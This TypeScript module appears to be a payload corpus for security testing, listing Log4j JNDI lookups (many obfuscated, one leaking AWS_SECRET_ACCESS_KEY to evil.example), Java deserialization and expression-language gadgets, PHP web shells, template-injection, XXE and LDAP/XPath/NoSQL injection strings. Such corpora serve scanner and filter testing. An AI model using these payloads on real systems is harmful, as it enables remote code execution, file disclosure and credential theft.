import { type GeneratedText, linesOf } from "./random.ts";

/** Code and expressions for what runs on the server, by class. */
const BY_CLASS = {
  "Log4j lookup": linesOf(`
\${jndi:ldap://evil.example/a}
\${jndi:rmi://evil.example:1099/a}
\${jndi:dns://evil.example}
\${jndi:ldaps://evil.example/a}
\${jndi:iiop://evil.example/a}
\${jndi:nis://evil.example/a}
\${JNDI:LDAP://evil.example/a}
\${jNdI:LdAp://evil.example/a}
\${\${lower:j}ndi:ldap://evil.example/a}
\${\${lower:j}\${lower:n}\${lower:d}i:\${lower:rmi}://evil.example/a}
\${\${upper:j}\${upper:n}\${upper:d}\${upper:i}:ldap://evil.example/a}
\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://evil.example/a}
\${\${env:ENV_NAME:-j}ndi\${env:ENV_NAME:-:}\${env:ENV_NAME:-l}dap\${env:ENV_NAME:-:}//evil.example/a}
\${\${env:BARFOO:-j}ndi\${env:BARFOO:-:}\${env:BARFOO:-l}dap://evil.example/a}
\${\${sys:x:-j}ndi:ldap://evil.example/a}
\${\${date:'j'}ndi:ldap://evil.example/a}
\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:ldap://evil.example/a}
\${j\${lower:\${upper:n}}di:ldap://evil.example/a}
\${\${lower:\${lower:jndi}}:ldap://evil.example/a}
\${\${lower:j}\${upper:n}\${lower:d}\${upper:i}:\${lower:r}m\${lower:i}}://evil.example/a}
\${j\${k8s:k5:-ND}i\${sd:k5:-:}ldap://evil.example/a}
\${jn\${date:}di:ldap://evil.example/a}
\${j\${main:\\k5:-Nd}i\${spring:k5:-:}ldap://evil.example/a}
\${\${what:ever:-j}\${some:thing:-n}\${other:thing:-d}\${and:last:-i}:ldap://evil.example/a}
\${\${:-j}ndi:ldap://evil.example/a}
\${jnd\${upper:\xc4\xb1}:ldap://evil.example/a}
\${jndi:\${lower:l}\${lower:d}ap://evil.example/a}
\${jndi:ldap://127.0.0.1#evil.example/a}
\${jndi:ldap://\${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}
\${jndi:ldap://\${hostName}.evil.example/a}
$%7Bjndi:ldap://evil.example/a%7D
%24%7Bjndi:ldap://evil.example/a%7D
%24%7b%24%7b::-j%7dndi:rmi://evil.example/a%7d
\\u0024\\u007bjndi:ldap://evil.example/a\\u007d
\${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}
x\${jndi:ldap://evil.example/a}x
Mozilla/5.0 \${jndi:ldap://evil.example/a}
t('\${jndi:ldap://evil.example/a}')
\${jndi:ldap:/evil.example/a}
\${\${lower:jnd}\${lower:i}:ldap://evil.example/a}
\${\${::-\${::-$\${::-j}}}ndi:ldap://evil.example/a}
\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//evil.example/a}
\${java:version}\${jndi:dns://evil.example}
`),
  "Java deserialization": linesOf(`
rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==
rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb24=
aced0005737200116a6176612e7574696c2e48617368536574
ACED0005737200176A6176612E7574696C2E5072696F72697479
\xac\xed\x00\x05sr\x00\x11java.util.HashMap
H4sIAAAAAAAAAFvzloG1uIhBMCuxLFGvtCQzR88jsbjYN7EAAJ
class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di
class.module.classLoader.DefaultAssertionStatus=true
class['module']['classLoader']['resources']=x
class.classLoader.URLs[0]=0
T(java.lang.Runtime).getRuntime().exec('id')
#{T(java.lang.Runtime).getRuntime().exec("id")}
\${T(java.lang.Runtime).getRuntime().exec('id')}
\${T(java.lang.System).getenv()}
new java.lang.ProcessBuilder({'id'}).start()
(#a=@java.lang.Runtime@getRuntime().exec('id'))
%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}
%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm))}
\${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8"))}
redirect:\${#context['xwork.MethodAccessor.denyMethodExecution']=false}
action:%{7*7}
%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}
\${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}
\${"".getClass().forName("java.lang.Runtime")}
''.class.forName('java.lang.Runtime').getRuntime()
\${script:javascript:java.lang.Runtime.getRuntime().exec('id')}
\${url:UTF-8:http://evil.example/}
\${dns:address|evil.example}
#set($e="e")$e.getClass().forName("java.lang.Runtime")
<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}
\${"freemarker.template.utility.Execute"?new()("id")}
{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a","autoCommit":true}
{"@type":"java.net.Inet4Address","val":"evil.example"}
{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource"}
["org.springframework.context.support.ClassPathXmlApplicationContext","http://evil.example/x.xml"]
<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>
<void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"/></void>
!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]
org.apache.commons.collections.functors.InvokerTransformer
com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")
\${pageContext.request.getSession()}
\${request.getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("1")}
#{session.setAttribute("rtc","".getClass().forName("java.lang.Runtime"))}
*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
__\${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
jndi:ldap://evil.example/Exploit
java.lang.Runtime.getRuntime().exec("calc")
`),
  "PHP code": linesOf(`
<?php phpinfo(); ?>
<?php system($_GET['c']); ?>
<?php eval($_POST[1]);?>
<?=\`$_GET[0]\`?>
<?= system('id') ?>
<? system('id'); ?>
<?php @eval(base64_decode('cGhwaW5mbygp'));
<?php echo shell_exec('id'); ?>
<?php echo file_get_contents('/etc/passwd'); ?>
<%3Fphp%20system('id')%3B%3F>
<script language="php">system('id');</script>
phpinfo()
phpinfo();
;phpinfo();//
');phpinfo();//
system('id');
system("ls -la");
system($_GET[x]);
exec('whoami');
exec("id")
passthru('id')
shell_exec('cat /etc/passwd')
popen('id','r')
proc_open('id',[],$p)
pcntl_exec('/bin/id')
eval('echo 1;');
eval(base64_decode('ZWNobyAx'))
eval(gzinflate(base64_decode('x')))
assert($_POST['x'])
assert("system('id')")
create_function('','phpinfo();')
call_user_func('system','id')
call_user_func_array('system',['id'])
array_map('system',['id'])
array_filter(['id'],'system')
usort($_GET,'system')
preg_replace('/.*/e','system("id")','')
file_put_contents('x.php','<?php')
fopen('/etc/passwd','r')
include('/etc/passwd')
include $_GET['f'];
require('http://evil.example/x')
readfile('/etc/passwd')
highlight_file(__FILE__)
show_source('index.php')
var_dump(scandir('.'))
print_r(scandir('/'))
die(md5(1));
echo md5('x');exit;
print(md5(31337));
\${print(md5(31337))}
\${@print(md5(31337))}
{\${phpinfo()}}
\${phpinfo()}
\${@phpinfo()}
$_GET['x']
$_POST[cmd]
$_SERVER['HTTP_X']
$_REQUEST['a']($_REQUEST['b'])
$GLOBALS['x']
$_COOKIE['a']
$x='sys'.'tem';$x('id');
(sy.(st).em)(whoami);
("sys"."tem")("id");
O:8:"stdClass":0:{}
O:4:"Test":1:{s:1:"a";s:2:"id";}
a:1:{i:0;O:8:"stdClass":0:{}}
O:+8:"stdClass":0:{}
C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}
php://input
php://filter/convert.base64-encode/resource=config
allow_url_include=on
-d allow_url_include=1 -d auto_prepend_file=php://input
auto_prepend_file=/etc/passwd
?-s
GLOBALS[x]=1
_SERVER[DOCUMENT_ROOT]=http://evil.example/x
mosConfig_absolute_path=http://evil.example/x.txt?
fsockopen('203.0.113.7',80)
chr(112).chr(104).chr(112)
base64_decode('cGhw')
str_rot13('flfgrz')
ini_set('display_errors',1)
set_time_limit(0);error_reporting(0)
think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo
s=/Index/\\think\\app/invokefunction
`),
  "server template": linesOf(`
{{7*7}}
{{7*'7'}}
{{ 7*7 }}
\${7*7}
\${{7*7}}
#{7*7}
#{ 7 * 7 }
*{7*7}
@(7*7)
<%= 7*7 %>
<%= 7 * 7 %>
{{=7*7}}
{7*7}
\${7*'7'}
{{1337*1337}}
\${1337*1337}
{{config}}
{{config.items()}}
{{self}}
{{''.__class__}}
{{''.__class__.__mro__[2].__subclasses__()}}
{{''.__class__.__base__.__subclasses__()[40]('/etc/passwd').read()}}
{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
{{cycler.__init__.__globals__.os.popen('id').read()}}
{{lipsum.__globals__['os'].popen('id').read()}}
{{joiner.__init__.__globals__.os.popen('id').read()}}
{{namespace.__init__.__globals__.os.popen('id').read()}}
{{url_for.__globals__}}
{{get_flashed_messages.__globals__['current_app'].config}}
{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{% if 7*7 %}x{% endif %}
{%import os%}{{os.system('id')}}
{% include '/etc/passwd' %}
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
{{['id']|filter('system')}}
{{['id']|map('system')|join}}
{{app.request.server.all|join(',')}}
{php}echo 1;{/php}
{system('id')}
{$smarty.version}
{$smarty.template_object}
{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"x",self::clearConfig())}
{if phpinfo()}{/if}
#set($x=7*7)$x
#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")
<%= system('id') %>
<%= \`id\` %>
<%= File.open('/etc/passwd').read %>
<%= IO.popen('id').readlines() %>
<%= Dir.entries('/') %>
#{system('id')}
#{\`id\`}
#{root.process.mainModule.require('child_process').spawnSync('id').stdout}
- var x = root.process
{{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}
{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
{{global.process.mainModule.require('child_process').execSync('id')}}
{{this.constructor.constructor('return process')()}}
<%= global.process.mainModule.require('child_process').execSync('id') %>
<%- process.env %>
\${process.env}
\${require('child_process').execSync('id')}
{{ .System.Exec "id" }}
{{printf "%s" "x"}}
{{html "x"}}
@{ System.Diagnostics.Process.Start("cmd.exe"); }
@System.IO.File.ReadAllText("c:\\\\boot.ini")
<%@ page import="java.util.*" %>
<% Runtime.getRuntime().exec("id"); %>
<jsp:scriptlet>out.println(1);</jsp:scriptlet>
<cfexecute name="cmd.exe">
[#if 7*7==49]x[/#if]
[[\${7*7}]]
[(\${7*7})]
<#assign x=7*7>\${x}
\${.data_model}
<th:t="\${7*7}"
\${self.module.cache.util.os.system('id')}
<%import os%>\${os.popen('id').read()}
`),
  "XML entity": linesOf(`
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "http://evil.example/x">]><r>&sp;</r>
<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>
<!DOCTYPE x PUBLIC "-//x//x" "http://evil.example/x.dtd"><x/>
<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;">]><lolz>&lol1;</lolz>
<!ENTITY x SYSTEM "expect://id">
<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>
<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="file:///etc/passwd"/></svg>
<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document('/etc/passwd')"/></xsl:stylesheet>
<!doctype a[<!entity b system 'file:///c:/boot.ini'>]><a>&b;</a>
<![CDATA[<script>alert(1)</script>]]>
`),
  "other query": linesOf(`
*)(uid=*))(|(uid=*
*)(&
*)(|(&
*)(|(mail=*))
*)(objectClass=*
admin)(&)
admin*)((|userPassword=*)
x)(|(cn=*
*))%00
)(cn=*))(|(cn=*
(&(uid=admin)(!(&(1=0)(userPassword=x))))
' or '1'='1' or 'a'='a
' or count(/*)=1 or 'a'='b
' or name()='username' or 'x'='y
'] | //user/*[contains(*,'
x' or 1=1 or 'x'='y
'or string-length(name(/*[1]))=4 or'
' and count(//*)>0 and 'a'='a
true, $where: '1 == 1'
, $where: '1 == 1'
$where: '1 == 1'
', $where: '1 == 1
1, $where: '1 == 1'
{ $ne: 1 }
', $or: [ {}, { 'a':'a
db.injection.insert({success:1});
1;return true
'; return true; var x='
';return this.a != 'b';var c='
' || 'a'=='a
' && this.password.match(/.*/)//+%00
' && this.passwordzz.match(/.*/)//+%00
'; while(true){}; var z='
';sleep(5000);'
'; var d=new Date();do{c=new Date()}while(c-d<5000);'
{"username":{"$ne":null},"password":{"$ne":null}}
{"username":{"$gt":""},"password":{"$gt":""}}
{"$where":"sleep(1000)"}
{"$or":[{"a":"a"},{"b":"b"}],"$comment":"x"}
{"username":{"$regex":"^adm"},"password":{"$ne":1}}
`),
} as const;

/** Classes of code for the server. */
export const CODE_CLASSES = Object.keys(BY_CLASS) as readonly (keyof typeof BY_CLASS)[];

/** Every text of a class of code. */
export const generateCode = (kind: keyof typeof BY_CLASS): readonly GeneratedText[] =>
  BY_CLASS[kind].map((text) => ({ core: text, text }));
